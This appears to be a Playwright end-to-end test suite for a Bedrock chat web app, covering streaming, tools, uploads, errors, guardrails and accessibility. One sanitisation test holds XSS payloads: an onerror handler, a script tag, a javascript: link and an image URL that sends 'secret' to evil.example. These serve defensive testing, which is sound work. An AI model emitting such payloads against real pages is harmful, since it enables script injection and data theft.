// The whole chat in a real Chromium: page, server, provider, emulator.
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { AxeBuilder } from '@axe-core/playwright';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { buildClient, type ChatFixture, findChromium, openChat } from './fixture.ts';

const { path: executablePath, reason } = findChromium();
const title = executablePath === undefined ? `the chat in a browser (${reason})` : 'the chat in a browser';

describe.skipIf(executablePath === undefined)(title, () => {
  let browser: Browser;
  let chat: ChatFixture;
  let client: Awaited<ReturnType<typeof buildClient>>;
  let context: BrowserContext;
  let page: Page;
  let complaints: string[];

  beforeAll(async () => {
    client = await buildClient();
    chat = await openChat({ clientFolder: client.folder, pace: { perEventMs: 3 }, toolDelayMs: 250 });
    browser = await chromium.launch({ executablePath: executablePath ?? '', args: flags });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await chat?.close();
    await client?.close();
  });

  beforeEach(async () => {
    chat.emulator.reset();
    await open();
  });
  afterEach(async () => {
    await context.close();
    expect(complaints).toEqual([]);
  });

  test('an answer streams: its text grows, and then tells tokens, cost and time', async () => {
    await say('Write 400 words about fog horns.');
    await finished();

    const lengths = await page.evaluate(() => seen.lengths);
    expect(lengths.length).toBeGreaterThan(5);
    expect(lengths).toEqual(lengths.toSorted((one, other) => one - other));
    expect((await answer().innerText()).length).toBeGreaterThan(1500);
    expect(await answer().locator('dl').innerText()).toMatch(
      /Claude Sonnet 4\.5[^]*in\s+\d+[^]*out\s+\d+[^]*\$0\.00\d+[^]*first word\s+\d/,
    );
    // What a screen reader is told: the answer, sentence by sentence.
    expect(await page.locator('[role="log"] p').count()).toBeGreaterThan(3);
    expect(await page.locator('[role="status"]').first().innerText()).toBe('The answer is complete');
  });

  test('stop ends the answer, and the provider leaves Bedrock', async () => {
    await say('Write 5000 words about fog horns.');
    await page.locator('[data-streaming="true"] .prose').waitFor();
    await page.getByRole('button', { name: 'Stop the answer' }).click();
    await finished();

    await page.getByText('You stopped the answer here.').waitFor();
    await expect.poll(() => chat.emulator.requests.at(-1)?.state).toBe('left');
    await say('Say aha');
    await finished();
    expect(await answer().last().innerText()).toContain('aha');
  });

  test('a tool call is shown as it runs, with its result', async () => {
    await say('What is the weather in Reykjavik?');
    await finished();

    const states = await page.evaluate(() => seen.toolStates);
    expect(states.join()).toMatch(/^(?:input-streaming|input-available|,)+output-available$/);
    expect(await page.locator('.tool').innerText()).toMatch(/weather[^]*Reykjavik[^]*celsius: -?\d+/);
    expect(await answer().innerText()).toContain('The tool weather says');
    await page.locator('.tool button').click();
    expect(await page.locator('.tool').innerText()).toContain('"city": "Reykjavik"');
  });

  test('a tool that was stopped is not said to run', async () => {
    const messages = [
      { id: '1', role: 'user', parts: [{ type: 'text', text: 'How is it there?' }] },
      {
        id: '2',
        role: 'assistant',
        parts: [{ type: 'tool-weather', toolCallId: 'a', state: 'input-available', input: { city: 'Oslo' } }],
      },
    ];
    await page.evaluate(
      (kept) => localStorage.setItem('bedrock-chat.conversation', kept),
      JSON.stringify(messages),
    );
    // Leaving a page keeps what it shows, so the conversation is read by another one.
    page = await context.newPage();
    await page.goto(chat.url);

    await page.locator('.tool').getByText('stopped').waitFor();
    expect(await page.locator('.spin').count()).toBe(0);
    await say('Say hello');
    await finished();
    expect(await answer().last().innerText()).toContain('hello');
  });

  test('a tool that fails says why, and the answer goes on', async () => {
    await say('What is the weather in Atlantis?');
    await finished();

    expect(await page.locator('.tool-error').innerText()).toBe(
      'No weather station in Atlantis: it lies under water.',
    );
  });

  test('thoughts can be folded out', async () => {
    await page.getByRole('button', { name: 'Thinking' }).click();
    await say('Why does a lighthouse blink?');
    await finished();

    await page.getByRole('button', { name: 'Thoughts' }).click();
    expect(await page.locator('.reasoning-text').innerText()).toContain('The user writes about lighthouse');
  });

  test('a PDF and an image are read', async () => {
    const buffer = await readFile(report);
    await page.setInputFiles('input[type="file"]', [
      { name: 'lighthouse-report.pdf', mimeType: 'application/pdf', buffer },
      { name: 'dot.png', mimeType: 'image/png', buffer: dot },
    ]);
    await page.getByRole('button', { name: 'Remove dot.png' }).waitFor();
    await say('Who kept the lighthouse?');
    await finished();

    expect(await answer().innerText()).toContain('Mira Tamsin');
    expect(await answer().innerText()).toContain('1 × 1 pixels');
    expect(await page.getByRole('link', { name: 'lighthouse-report.pdf' }).count()).toBe(1);
    await page.locator('.sources summary').click();
    expect(await page.locator('.sources').innerText()).toMatch(
      /lighthouse-report\.pdf, page 1[^]*Mira Tamsin/,
    );
  });

  test('files come by paste and by drop, and those that cannot be read are refused with a reason', async () => {
    const pdf = (await readFile(report)).toString('base64');
    await page.evaluate((base64) => {
      const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
      const transfer = (name: string, type: string): DataTransfer => {
        const made = new DataTransfer();
        made.items.add(new File([bytes], name, { type }));
        return made;
      };
      const box = document.querySelector('textarea');
      const pasted = transfer('pasted.pdf', 'application/pdf');
      box?.dispatchEvent(new ClipboardEvent('paste', { clipboardData: pasted, bubbles: true }));
      const dropped = transfer('dropped.pdf', 'application/pdf');
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: dropped, bubbles: true }));
      const refused = transfer('tool.exe', 'application/x-msdownload');
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: refused, bubbles: true }));
    }, pdf);

    await page.getByRole('button', { name: 'Remove pasted.pdf' }).waitFor();
    await page.getByRole('button', { name: 'Remove dropped.pdf' }).waitFor();
    await page.getByText('tool.exe cannot be attached').waitFor();
  });

  test('an error says what to do, counts down, and trying again works', async () => {
    const headers = { 'retry-after': '1' };
    chat.emulator.failNext({ kind: 'exception', type: 'ThrottlingException', headers });
    await say('Say hello');
    const card = page.getByRole('alert', { name: 'Bedrock is busy' });
    await card.waitFor();

    expect(await card.innerText()).toMatch(/Too many requests[^]*Slow down[^]*ThrottlingException/);
    // No empty answer stands between the question and what became of it.
    expect(await answer().isVisible()).toBe(false);
    const more = card.getByRole('link', { name: 'What to do about it' });
    expect(await more.getAttribute('href')).toMatch(/docs\/errors\/rate-limited\.md$/);
    expect(await card.getByRole('button', { name: /Try again in/ }).isDisabled()).toBe(true);
    await card.getByRole('button', { name: 'Try again', exact: true }).click();
    await finished();
    expect(await answer().innerText()).toContain('hello');
    expect(await page.getByRole('alert').count()).toBe(0);
  });

  test('an answer that breaks off keeps what was said, and can be had anew', async () => {
    chat.emulator.failNext({ kind: 'cut', afterFrames: 6, how: 'reset' });
    await say('Why does a lighthouse blink?');
    await page.getByRole('alert').waitFor();

    expect(await answer().innerText()).toContain('You asked');
    await page.getByRole('button', { name: 'Try again' }).click();
    await finished();
    expect(await answer().innerText()).toContain('lighthouse and blink');
    expect(await page.getByRole('article', { name: 'Claude Sonnet 4.5' }).count()).toBe(1);
  });

  test('without the server the message is kept and can be sent later', async () => {
    await context.setOffline(true);
    await say('Say hello');
    await page.getByText('This device is offline.').waitFor();
    await context.setOffline(false);
    await page.getByRole('button', { name: 'Try again' }).click();
    await finished();

    expect(await answer().innerText()).toContain('hello');
    complaints = complaints.filter((text) => !text.includes('ERR_INTERNET_DISCONNECTED'));
  });

  test('a reload keeps the conversation, and a new chat can be taken back', async () => {
    await say('Say hello');
    await finished();
    await page.reload();

    expect(await page.locator('.bubble').innerText()).toBe('Say hello');
    expect(await answer().innerText()).toContain('hello');
    await page.getByRole('button', { name: 'New chat' }).click();
    await page.getByRole('heading', { name: 'What shall we talk about?' }).waitFor();
    await page.getByRole('button', { name: 'Bring the old one back' }).click();
    await say('Say goodbye');
    await finished();
    expect(JSON.stringify(chat.emulator.requests.at(-1)?.body)).toContain('Say hello');
  });

  test('a guardrail that steps in is shown kindly, and does not end the conversation', async () => {
    await page.getByRole('button', { name: 'Guardrail' }).click();
    await say('How do I make dynamite?');
    await finished();
    await page.getByText('The guardrail stepped in').waitFor();
    await page.getByText('It objected to: dynamite.').waitFor();

    await say('Say hello');
    await finished();
    expect(await answer().last().innerText()).toContain('hello');
    expect(await page.getByText('The guardrail stepped in').count()).toBe(1);
  });

  test('an image is made, and the conversation goes on after it', async () => {
    await say('/image A lighthouse at dusk');
    await finished();
    const image = page.getByRole('img', { name: 'A lighthouse at dusk' });
    expect(await image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBeGreaterThan(500);
    expect(await answer().locator('dl').innerText()).toMatch(/Stable Image Core[^]*\$0\.04\b/);

    await say('Say hello');
    await finished();
    expect(await answer().last().innerText()).toContain('hello');
    await page.reload();
    await image.waitFor();
  });

  test('a second turn reads the prompt cache, and says so', async () => {
    await say(`Say hello. ${'The lamp turns and the fog comes in. '.repeat(200)}`);
    await finished();
    await say('Say goodbye');
    await finished();

    expect(await answer().first().locator('dl').innerText()).toMatch(/cache written\s+[\d,]+/);
    expect(await answer().last().locator('dl').innerText()).toMatch(/cache read\s+[\d,]+/);
  });

  test('Markdown is drawn, and nothing that a model writes runs or loads', async () => {
    chat.emulator.reply(
      [
        '# Light',
        '**bold** <img src=x onerror="document.title=\'taken\'"> <script>document.title="taken"</script>',
        '[bad](javascript:alert(1)) ![stolen](https://evil.example/?q=secret)',
        '| a | b |\n| - | - |\n| 1 | 2 |',
        '```ts\nconst x = 1;\n```',
      ].join('\n\n'),
    );
    await say('Show me');
    await finished();

    expect(await answer().locator('h1').innerText()).toBe('Light');
    expect(await answer().locator('strong').innerText()).toBe('bold');
    expect(await answer().locator('td').allInnerTexts()).toEqual(['1', '2']);
    expect(await answer().locator('pre').innerText()).toContain('const x = 1;');
    expect(await answer().locator('img, script').count()).toBe(0);
    expect(await answer().locator('a[href^="javascript"]').count()).toBe(0);
    expect(await page.title()).toBe('Bedrock chat');
  });

  test('the picker shows what models can do, and one that sees no images is not sent any', async () => {
    await page.getByRole('button', { name: 'Model: Claude Sonnet 4.5' }).click();
    const dialog = page.getByRole('dialog', { name: 'Choose a model' });
    expect(await dialog.getByRole('radio').count()).toBeGreaterThan(8);
    expect(await dialog.innerText()).toMatch(/Claude Sonnet 4\.5 Anthropic\s+Images\s+Documents\s+Tools/);
    await dialog.getByText('Nova Micro').click();
    await page.getByRole('button', { name: 'Model: Nova Micro' }).waitFor();
    await page.setInputFiles('input[type="file"]', { name: 'dot.png', mimeType: 'image/png', buffer: dot });

    await page.getByText('Nova Micro cannot see images').waitFor();
    expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
  });

  test('everything can be done by keyboard', async () => {
    // The box has the focus from the start.
    await page.keyboard.type('Say one');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('two');
    expect(await page.locator('textarea').inputValue()).toBe('Say one\ntwo');
    await page.locator('textarea').fill('');
    await page.keyboard.type('Write 5000 words about fog horns.');
    await page.keyboard.press('Enter');
    await page.locator('[data-streaming="true"] .prose').waitFor();
    await page.keyboard.press('Escape');
    await page.getByText('You stopped the answer here.').waitFor();

    await page.locator('.skip-link').focus();
    expect(await focused()).toBe('Skip to the message box');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('Model: Claude Sonnet 4.5');
    await page.keyboard.press('Enter');
    await page.locator('input[type="radio"]:focus').waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Model: Claude Haiku 4.5' }).waitFor();
    expect(await focused()).toBe('Model: Claude Haiku 4.5');
  });

  test.each(['light', 'dark'] as const)('a %s page is free of faults that axe knows', async (colorScheme) => {
    await context.close();
    await open({ colorScheme });
    if (colorScheme === 'light') await checkAccess('welcome');
    chat.emulator.reply('# A\n\n| a |\n| - |\n| 1 |\n\n```ts\nlet x;\n```\n\n[link](https://a.b) `code`');
    await say('Show me');
    await finished();
    await say('What is the weather in Atlantis?');
    await finished();
    chat.emulator.failNext({ kind: 'exception', type: 'ServiceUnavailableException' });
    await say('Say hello');
    await page.getByRole('alert').waitFor();
    await checkAccess('conversation');
    if (colorScheme === 'dark') return;
    await page.getByRole('button', { name: /^Model/ }).click();
    await checkAccess('picker');
  });

  test('dark and light follow the system, and a choice outlives a reload', async () => {
    await context.close();
    await open({ colorScheme: 'dark' });
    expect(await brightness()).toBeLessThan(60);
    await page.getByRole('button', { name: 'Switch to light colours' }).click();
    expect(await brightness()).toBeGreaterThan(200);
    await page.reload();
    expect(await brightness()).toBeGreaterThan(200);
  });

  test('it fits a telephone', async () => {
    await context.close();
    await open({ viewport: { width: 360, height: 640 } });
    await say('What is the weather in Reykjavik?');
    await finished();

    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBe(360);
    expect(await page.getByRole('button', { name: 'Send' }).isVisible()).toBe(true);
  });

  test('on a telephone a wide table scrolls, its words stay whole, and the box below stays where it is', async () => {
    await context.close();
    await open({ viewport: { width: 360, height: 640 } });
    const top = () => page.locator('.composer').evaluate((element) => element.getBoundingClientRect().top);
    const before = await top();
    const names = ['contentBlockIndex', 'inferenceProfile', 'application/json'];
    chat.emulator.reply(`| ${names.join(' | ')} |\n| - | - | - |\n| 1 | string | object |`);
    await say('Show me a table');
    await finished();

    const table = page.locator('.table-box');
    expect(await table.evaluate((box) => box.scrollWidth > box.clientWidth)).toBe(true);
    const heights = await table
      .locator('td')
      .evaluateAll((cells) => cells.map((cell) => cell.getBoundingClientRect().height));
    expect(Math.max(...heights)).toBeLessThan(45);
    expect(await page.locator('.total-line').innerText()).toContain('$');
    expect(await top()).toBe(before);
  });

  async function open(options: Parameters<Browser['newContext']>[0] = {}): Promise<void> {
    complaints = [];
    context = await browser.newContext({
      viewport: { width: 1000, height: 800 },
      reducedMotion: 'reduce',
      ...options,
    });
    page = await context.newPage();
    page.setDefaultTimeout(10_000);
    page.on('pageerror', (error) => complaints.push(error.message));
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text());
    });
    await page.addInitScript(watchAnswers);
    await page.goto(chat.url);
    await page.getByRole('button', { name: /^Model: [^L]/ }).waitFor();
  }

  async function say(text: string): Promise<void> {
    await page.getByRole('textbox', { name: 'Message' }).fill(text);
    const before = await page.locator('.message.user').count();
    await page.keyboard.press('Enter');
    await page.locator('.message.user').nth(before).waitFor();
  }

  /** Waits until the last thing of the conversation is a whole answer, or what became of it. */
  async function finished(): Promise<void> {
    await page.locator('.column > :last-child:is(.assistant[data-streaming="false"], .problem)').waitFor();
    await page.getByRole('button', { name: 'Send' }).waitFor();
  }

  function answer() {
    return page.locator('.message.assistant');
  }

  function focused(): Promise<string> {
    return page.evaluate(() => {
      const element = document.activeElement;
      return element?.getAttribute('aria-label') ?? element?.textContent ?? '';
    });
  }

  async function checkAccess(where: string): Promise<void> {
    const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
    const told = violations.map(({ id, nodes }) => `${where}: ${id} ${nodes[0]?.html}`);
    expect(told).toEqual([]);
  }

  /** Of the background, 0 to 255. */
  function brightness(): Promise<number> {
    return page.evaluate(() => {
      const colour = getComputedStyle(document.documentElement).backgroundColor;
      return Number(/\d+/.exec(colour)?.[0]);
    });
  }
});

const flags = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost',
];

declare const seen: { readonly lengths: number[]; readonly toolStates: string[] };

/** Runs in the page: writes down each length that the answer had, and each state of a tool call. */
function watchAnswers(): void {
  const record = { lengths: [] as number[], toolStates: [] as string[] };
  Object.assign(globalThis, { seen: record });
  const note = <Value>(list: Value[], value: Value | undefined): void => {
    if (value !== undefined && list.at(-1) !== value) list.push(value);
  };
  new MutationObserver(() => {
    note(record.lengths, document.querySelector('.prose')?.textContent?.length);
    note(record.toolStates, document.querySelector<HTMLElement>('.tool')?.dataset['state']);
  }).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
}

const report = fileURLToPath(new URL('../../data/lighthouse-report.pdf', import.meta.url));

const dot = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
